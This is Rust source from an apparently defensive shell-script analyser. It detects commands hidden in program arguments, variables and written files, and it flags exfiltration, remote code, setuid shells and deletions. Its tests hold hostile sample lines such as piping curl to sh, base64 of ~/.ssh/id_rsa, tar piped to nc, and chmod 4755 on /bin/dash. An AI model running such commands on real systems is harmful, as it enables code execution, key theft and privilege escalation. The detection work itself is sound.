//! Commands within what a program is given: in an argument (`--opt 'sh -c "…"'`, `system.run[…]`), in the variables before
//! it, in a file that the script wrote in a form that gate does not read.
//!
//! Such a text need not run. So each command that it holds is read as one, and of all that it would do only that is kept
//! which nobody writes down for another purpose: secrets that leave, code straight from the network, a shell for others, a
//! home or a system deleted or opened, a line in a file that runs by itself.

use std::borrow::Cow;

use crate::facts::analysis::Analysis;
use crate::facts::files::planted::never_meant;
use crate::facts::knowledge::{Classes, Kind};
use crate::facts::shell::ast::Span;
use crate::facts::targets::paths::{base_name, core};
use crate::facts::value::{Data, Sink, Taint, Val};
use crate::facts::{Call, Effect, value};
use crate::limits;

impl<'a> Analysis<'a> {
    /// The commands in a call's words, in the variables before it, and in the files that it names.
    pub fn embedded(&mut self, call: &Call<'a>, settings: &[(&'a str, Val<'a>)], index: u32) {
        self.hidden_programs(call, index);
        let worth = |word: &value::Field<'a>| {
            word.val.lit().is_some_and(|text| may_hold_commands(text) && !self.is_read(call, word.span, text))
        };
        if self.embedding
            || !(self.state.has_files()
                || call.words.iter().skip(1).any(worth)
                || settings.iter().any(|(_, val)| val.lit().is_some_and(may_hold_commands)))
        {
            return;
        }
        let listed = |list: &'static str| self.know.lists().has(list, call.program);
        if listed("takes-texts") || listed("looks-only") || self.only_compiles(call) {
            return;
        }
        let reviews = self.only_reviews(call);
        for (name, val) in settings {
            if let Some(text) = val.lit() {
                self.commands_given(text, names_code(name), call.span, index);
            }
        }
        let mut runs = false;
        for pair in call.words.windows(2) {
            let [before, word] = pair else { continue };
            runs |= before.val.lit().is_some_and(runs_what_follows);
            let Some(text) = word.val.lit().filter(|text| !self.is_read(call, word.span, text)) else { continue };
            // A message is for people, and what is looked at does not run.
            let option = before.val.lit().unwrap_or_default();
            if self.know.lists().has("message-options", option)
                || reviews && (is_looked_at(option) || !option.starts_with('-'))
            {
                continue;
            }
            let value = !text.starts_with('-');
            let option = before.val.lit().is_some_and(|option| value && option.starts_with('-') && names_code(option));
            // `-q -c '!rm -rf x'`, `-sOutput='|rm -rf x'`: so are commands of a shell marked, and nothing else.
            let said = text.rsplit_once('=').map_or(text, |(_, said)| said).strip_prefix(['!', '|']);
            let first = said.and_then(|said| said.trim_start_matches(['!', ' ']).split_whitespace().next());
            let marked = first.is_some_and(|first| self.run_by_others(first));
            // `consul lock key 'rm -rf x'`: a whole command in one word is there to be run.
            let whole = || text.split_whitespace().next().is_some_and(|first| self.run_by_others(first));
            self.commands_given(text, option || marked || runs && whole(), word.span, index);
        }
    }

    /// Whether a program that nobody describes is told, first of all, to look at what it is given: `guard check -c 'rm -rf /'`.
    pub fn only_reviews(&self, call: &Call<'a>) -> bool {
        let words = call.words.iter().skip(1).map_while(|word| word.val.lit());
        let mut verbs = words.filter(|word| !word.starts_with('-'));
        let verb = match call.entry {
            None => verbs.next(),
            // `uv run guard check`: the program comes first, and is none that gate knows.
            Some(entry) if entry.wrapper && call.verb.contains(' ') => {
                let program = verbs.find(|word| !call.verb.split(' ').any(|part| part == *word));
                program.filter(|program| self.know.entry(program).is_none()).and_then(|_| verbs.next())
            }
            Some(_) => None,
        };
        verb.is_some_and(|verb| self.know.lists().has("only-reviews", verb))
    }

    /// Programs that nobody sees who looks (`/var/tmp/.x`), given as what is to be run: `--command /var/tmp/.x`,
    /// `prefix_command=/dev/shm/.x`.
    fn hidden_programs(&mut self, call: &Call<'a>, index: u32) {
        for pair in call.words.windows(2) {
            let (Some(before), Some(word)) = (pair[0].val.lit(), pair[1].val.lit()) else { continue };
            let (name, path) = word.rsplit_once('=').unwrap_or((before, word));
            let meant = path.starts_with('/') && !path.contains([' ', '*', ':']);
            if meant && (name != before || name.starts_with('-')) && names_code(name) && self.hides(path) {
                self.code_effect(path, Taint::TEMPORARY, index, pair[1].span);
            }
        }
    }

    /// The commands in a word, which an option may have `announced`, or in the file that it names.
    fn commands_given(&mut self, word: &'a str, announced: bool, span: Span, index: u32) {
        if may_hold_commands(word) {
            self.commands_in_text(word, announced || announces(word), span, index);
        } else if let Some(text) = self.written_text(word) {
            self.commands_in_text(text, announces(text), span, index);
        }
    }

    /// Whether a word is code, or a file of code, in a language that is read.
    fn is_read(&self, call: &Call<'a>, span: Span, text: &str) -> bool {
        let Some(entry) = call.entry else { return false };
        let is_text = |name: &str| self.know.lists().has("operands-that-are-texts", name);
        call.operands.iter().any(|operand| operand.field.span == span && is_text(operand.name))
            || entry
                .code
                .iter()
                .filter(|code| {
                    !self.know.lists().has("unread-languages", code.language) && call.meets(code.cond.as_deref())
                })
                .any(|code| {
                    let same = |field: value::Field<'a>| {
                        field.span == span && field.val.lit().is_some_and(|t| text.ends_with(t))
                    };
                    code.from.iter().any(|name| call.fields(name).any(same))
                })
    }

    /// The text that the script wrote to the file which a word names, if it is neither a program's nor people's.
    fn written_text(&self, word: &'a str) -> Option<&'a str> {
        if !self.state.has_files() {
            return None;
        }
        let name = word.rfind(['=', '@', ':']).map_or(word, |at| &word[at + 1..]);
        let ending = base_name(name).rsplit_once('.').map_or("", |(_, ending)| ending);
        let file =
            self.state.file(self.absolute(name)?).filter(|_| !self.know.lists().has("endings-of-texts", ending))?;
        file.data.text?.lit()
    }

    /// A shell reads what some program of this machine prints: that may be what the script told it (`git commit -m 'rm -rf
    /// ~'; git log -1 --format=%s | sh`), so what the script quotes is searched.
    pub fn said_before(&mut self, span: Span, index: u32) {
        let effects = self.facts.effects.len();
        for text in self.quoted_by_script().into_iter().filter(|text| may_hold_commands(text)).take(limits::UNROLL) {
            self.commands_in_text(self.bump.alloc_str(&text), true, span, index);
        }
        for effect in self.facts.effects.iter_mut().skip(effects) {
            effect.certain = false;
        }
    }

    /// What stands in quotes or brackets in the script, if that is not too long.
    fn quoted_by_script(&self) -> Vec<String> {
        let mut quoted = Vec::new();
        let text = self.facts.sources.first().map(|source| source.text);
        if let Some(text) = text.filter(|text| text.len() <= LONGEST) {
            enclosed(text, &mut quoted);
        }
        quoted
    }

    /// A client of a database reads what the script writes to it later, through a pipe or as a coprocess: the statements that
    /// the script quotes, as far as they begin as such.
    pub fn sql_said(&mut self, language: &'a str, span: Span, index: u32) {
        let changes = |text: &String| {
            let verb = text.split_whitespace().next().unwrap_or_default();
            ["drop", "delete", "truncate", "update", "alter", "grant"]
                .iter()
                .any(|word| verb.eq_ignore_ascii_case(word))
        };
        for text in self.quoted_by_script().iter().filter(|text| changes(text)).take(limits::UNROLL) {
            let text = Val::Lit(self.bump.alloc_str(text));
            self.perhaps(|this| this.code_value(language, text, span, &Data::NOTHING, &mut Sink::new(), index));
        }
    }

    /// Keeps of the commands in a text what nobody writes down for another purpose; what is not `announced` as a command is
    /// possible.
    pub fn commands_in_text(&mut self, text: &'a str, announced: bool, span: Span, index: u32) {
        if self.embedding {
            return;
        }
        let mut found = Vec::new();
        candidates(text, &mut found, 0);
        let commands: Vec<&'a str> = found
            .into_iter()
            .filter(|command| {
                let first = command.split_whitespace().next().unwrap_or_default();
                self.find_entry(base_name(first)).is_some()
            })
            .map(|command| &*self.bump.alloc_str(&command))
            .collect();
        if commands.is_empty() {
            return;
        }
        let before = (self.facts.calls.len(), self.facts.effects.len(), self.facts.sources.len());
        // What is only written down must not use up what the rest needs.
        let steps = self.spent.steps;
        let start = steps.max(limits::STEPS.saturating_sub(MOST_STEPS));
        self.spent.steps = start;
        let vocabulary = self.know.vocabulary();
        let everything = vocabulary.classes.of(["system-tree"]) | core::HOME | core::ROOT;
        let system = everything | vocabulary.classes.of(["system", "secret"]);
        self.embedding = true;
        for command in commands.into_iter().take(limits::UNROLL) {
            self.perhaps(|this| this.shell_code(Val::Lit(command), span, &Data::NOTHING, &mut Sink::new(), index));
        }
        self.embedding = false;
        // All of it together is bounded too.
        self.spent.aside = self.spent.aside.saturating_add(self.spent.steps - start);
        self.spent.steps = if self.spent.aside < limits::STEPS { steps } else { limits::STEPS };
        let runs_itself = vocabulary.classes.self_running() | vocabulary.classes.lets_in();
        let found: Vec<Effect<'a>> = self.facts.effects.drain(before.1..).collect();
        let kept = found.into_iter().filter(|effect| {
            never_meant(effect, everything, Classes::MAX) && (announced || effect.does != Kind::Delete)
                || match effect.does {
                    Kind::Write | Kind::Append | Kind::Create => effect.target.classes & runs_itself != 0,
                    Kind::Elevate => effect.marks.contains(&"escape"),
                    Kind::Permit => effect.target.classes & system != 0 || effect.marks.contains(&"setuid"),
                    _ => false,
                }
        });
        // What is fetched from nobody's address and run as it comes is no text of anybody's.
        let nobodys = vocabulary.classes.nobodys();
        let sure = |effect: &Effect<'_>| {
            announced
                || effect.does == Kind::Code && effect.data.has(Taint::NETWORK) && effect.target.classes & nobodys != 0
        };
        self.facts.effects.extend(kept.map(|effect| Effect { certain: sure(&effect), ..effect }));
        if self.facts.effects.len() == before.1 {
            self.forget_calls(before.0);
            self.forget_sources(before.2);
        }
    }
}

/// All that is kept in the end has a path or a pipe in it.
fn may_hold_commands(word: &str) -> bool {
    word.len() >= "rm -rf ~".len() && word.contains(' ') && word.contains(['/', '~', '|'])
}

/// What names of options and members begin with whose values are commands.
const STEMS: [&str; 22] = [
    "-action", "exec", "system", "_process", "spawn", "shell", "cmd", "command", "run", "eval", "hook", "script",
    "popen", "pager", "editor", "sh{", "wrapper", "launcher", "opener", "viewer", "prepipe", "httpd",
];

/// The options behind which stands what a program looks at.
pub fn is_looked_at(option: &str) -> bool {
    matches!(option, "-c" | "--command" | "--cmd" | "--code")
}

fn names_code(option: &str) -> bool {
    let option = option.to_ascii_lowercase();
    STEMS.iter().any(|stem| option.contains(stem))
}

/// Whether a verb of a program says that what stands behind it is run.
fn runs_what_follows(verb: &str) -> bool {
    matches!(verb, "exec" | "run" | "lock" | "dispatch" | "cmd" | "command" | "shell" | "exec-file" | "subscribe")
}

/// Whether a text says that something in it is run: `command = "…"`, `system(…)`, `execute-silent(…)`, `%sh{…}`.
fn announces(text: &str) -> bool {
    let text = text.to_ascii_lowercase();
    ["$(shell ", "lookup('pipe'"].iter().any(|start| text.contains(start))
        || STEMS.iter().any(|stem| {
            text.match_indices(stem).any(|(at, _)| {
                let rest = text[at + stem.len()..]
                    .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'));
                stem.ends_with('{') || rest.trim_start().starts_with(['(', '{', '[', '=', ':', '"', '\'', '/'])
            })
        })
}

/// The commands that are followed of one text.
const MOST_STEPS: u32 = 500;

/// Texts longer than this hold more than a command or two.
const LONGEST: usize = 16 << 10;

/// What may be a command in a text: lines and what stands in them after a name, what is quoted, what is in brackets.
fn candidates(text: &str, out: &mut Vec<String>, depth: u32) {
    if depth > 8 || text.len() > LONGEST {
        return;
    }
    let mut add = |text: &str| {
        let bare =
            text.trim().trim_start_matches(['<', '|', '!', ';', '@', '-', '+', '&', '*', ' ', '"', '\'']).trim_start();
        // make's `$(shell …)`
        let bare = bare.strip_prefix("shell ").unwrap_or(bare);
        if bare.contains(' ') && out.len() < limits::UNROLL && !out.iter().any(|known| known == bare) {
            out.push(bare.to_owned());
        }
    };
    let text = unescaped(text);
    for line in text.lines().map(str::trim) {
        add(line);
        for between in ["=", ":", "\t", " ", "- "] {
            if let Some((_, after)) = line.split_once(between) {
                add(after);
            }
        }
    }
    let mut inner = Vec::new();
    enclosed(&text, &mut inner);
    // `['curl', '-T', x]`: the words of one command.
    for list in inner.iter().filter(|part| part.starts_with(['"', '\'']) && part.contains(',')) {
        let words: Vec<&str> = list.split(',').map(|word| word.trim().trim_matches(['"', '\''])).collect();
        add(&words.join(" "));
    }
    for part in inner {
        candidates(&part, out, depth + 1);
    }
}

/// The entities of XML as what they stand for.
fn unescaped(text: &str) -> Cow<'_, str> {
    // ninja, make and Compose write a dollar sign twice.
    if text.contains("$$") {
        return Cow::Owned(unescaped(&text.replace("$$", "$")).into_owned());
    }
    // A blank in `MAKEFLAGS`.
    if text.contains("\\ ") {
        return Cow::Owned(unescaped(&text.replace("\\ ", " ")).into_owned());
    }
    if !text.contains('&') || !text.contains(';') {
        return Cow::Borrowed(text);
    }
    Cow::Owned(
        text.replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&"),
    )
}

/// What stands in quotes and in brackets, outermost.
fn enclosed(text: &str, out: &mut Vec<String>) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() && out.len() < limits::VALUES * 4 {
        let open = bytes[at];
        at += 1;
        match open {
            b'"' | b'\'' | b'`' => {
                let mut inner = Vec::new();
                let mut end = at;
                while end < bytes.len() && bytes[end] != open {
                    end += usize::from(bytes[end] == b'\\' && end + 1 < bytes.len());
                    inner.push(bytes[end]);
                    end += 1;
                }
                // An apostrophe opens nothing.
                if end < bytes.len() {
                    out.extend(String::from_utf8(inner).ok().filter(|inner| inner.contains(' ')));
                    at = end + 1;
                }
            }
            b'(' | b'{' | b'[' => {
                let close = match open {
                    b'(' => b')',
                    b'{' => b'}',
                    _ => b']',
                };
                let mut deep = 1;
                let end = bytes[at..].iter().position(|byte| {
                    deep += i32::from(*byte == open) - i32::from(*byte == close);
                    deep == 0
                });
                if let Some(end) = end {
                    out.extend(text.get(at..at + end).filter(|inner| inner.contains(' ')).map(str::to_owned));
                    // What is quoted in it is found there.
                    at += end + 1;
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::candidates;

    #[test]
    fn commands_are_found_where_they_stand() {
        for (text, command) in [
            ("nop %sh{ curl x | sh }; quit", "curl x | sh"),
            (r#"rpc:call(a, os, cmd, ["sh -c \"curl x|sh\""])"#, "sh -c \"curl x|sh\""),
            ("system.run[base64 ~/.ssh/id_rsa >k,nowait]", "base64 ~/.ssh/id_rsa >k,nowait"),
            ("before_dl:curl -T x y", "curl -T x y"),
            ("plot '< curl -s x | sh'", "curl -s x | sh"),
            ("cmd_preexec\t/bin/chmod 4755 /bin/dash", "/bin/chmod 4755 /bin/dash"),
            ("<a command=\"sh -c &quot;curl x|sh&quot;\"/>", "sh -c "),
            ("it's (rm -rf x)", "rm -rf x"),
            ("execute(tar c x | nc y)+abort", "tar c x | nc y"),
        ] {
            let mut found = Vec::new();
            candidates(text, &mut found, 0);
            assert!(found.iter().any(|f| f.starts_with(command)), "{text}: {found:?}");
        }
    }

    #[test]
    fn what_is_run_is_said_so() {
        assert!(super::announces("command = install x") && super::announces("os.execute(\"x\")"));
        assert!(super::announces("nop %sh{ x }") && super::announces("cmd_preexec\t/bin/x"));
        assert!(!super::announces("B -- rm -rf / --> C[deny]") && !super::announces("prune the shells"));
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_searched(text in "[ -~é\n]{0,80}") {
            candidates(&text, &mut Vec::new(), 0);
        }
    }
}
